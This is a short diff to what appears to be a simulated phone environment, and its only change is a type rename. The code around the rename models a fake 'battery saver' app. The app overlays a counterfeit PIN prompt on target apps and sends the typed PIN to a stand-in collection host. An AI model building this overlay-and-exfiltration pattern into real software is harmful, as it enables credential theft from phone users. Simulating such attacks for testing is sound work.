@@ -14,7 +14,7 @@ from handrail.phone.ui.widgets import button, field, paragraph
 if TYPE_CHECKING:
     from datetime import datetime
 
-    from handrail.phone.context import Context, Glance
+    from handrail.phone.context import Glance, HandlerContext
 
 PACKAGE = "com.battery.saver.pro"
 HOST = "collect.saver-cdn.example"
@@ -47,13 +47,13 @@ class FakePrompt(Page):
                       field("pin", self.pin, "PIN", password=True), button("Continue", steal, width=-1))  # fmt: skip
 
 
-def steal(do: Context[Any, FakePrompt]) -> None:
+def steal(do: HandlerContext[Any, FakePrompt]) -> None:
     """What was typed goes away."""
     do.exchange(HOST, bytes_out=220 + len(do.page.pin), bytes_in=90)
     do.remove_overlays()
 
 
-def lurk(do: Context[Any, Any], _: datetime) -> None:
+def lurk(do: HandlerContext[Any, Any], _: datetime) -> None:
     """Waits for its prey."""
     if do.tasks[0] in PREY and PACKAGE not in do.overlaid:
         do.overlay(FakePrompt())
